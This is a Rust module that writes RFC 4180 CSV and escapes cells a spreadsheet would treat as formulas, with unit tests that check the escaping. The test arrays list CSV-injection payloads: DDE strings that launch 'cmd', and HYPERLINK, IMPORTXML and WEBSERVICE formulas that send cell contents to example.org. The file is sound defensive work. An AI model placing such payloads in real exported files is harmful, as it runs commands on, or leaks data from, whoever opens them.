//! CSV for spreadsheets (RFC 4180), whose cells are taken for what they are: text stays text, whatever it begins with.

/// A writer into memory, with the line ends of the standard.
pub fn writer() -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new())
}

/// The cell for a text. One that a spreadsheet would take for a formula gets a leading `'`; numbers stay numbers.
pub fn inert(text: &str) -> std::borrow::Cow<'_, str> {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    match formula && !is_number(text) {
        true => format!("'{text}").into(),
        false => text.into(),
    }
}

/// Whether it is a plain number: a sign, digits, one point.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, part) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, part].iter().all(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What has been used against people who open a file, and what merely looks like it.
    const FORMULAS: [&str; 26] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"1\")",
        "=A1",
        "=",
        "==1",
        "=\"=\"&A1",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+49 170 1234567",
        "+A1",
        "+",
        "-1+1",
        "-cmd|' /C calc'!A0",
        "-A1",
        "-",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ];
    const HARMLESS: [&str; 16] = [
        "",
        "Lund",
        "O’Sullivan",
        "'=1+1",
        " =1+1",
        "a=b",
        "1,204",
        "007",
        "-12.5",
        "+4917012345",
        "-3",
        "Sørbø; Mia",
        "two\nlines",
        "say \"hi\"",
        "100 %",
        "🎓",
    ];

    #[test]
    fn nothing_is_left_that_a_spreadsheet_would_work_out() {
        for formula in FORMULAS {
            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
        }
        for text in HARMLESS {
            assert_eq!(inert(text), text, "{text:?}");
        }
    }

    #[test]
    fn every_cell_parses_back_equal() {
        let mut writer = writer();
        let cells: Vec<&str> = FORMULAS.into_iter().chain(HARMLESS).collect();
        writer.write_record(cells.iter().map(|cell| inert(cell).into_owned())).unwrap();
        let bytes = writer.into_inner().unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
        let read = reader.records().next().unwrap().unwrap();
        for (read, cell) in read.iter().zip(cells) {
            assert_eq!(read.strip_prefix('\'').filter(|_| inert(cell) != cell).unwrap_or(read), cell);
        }
    }
}
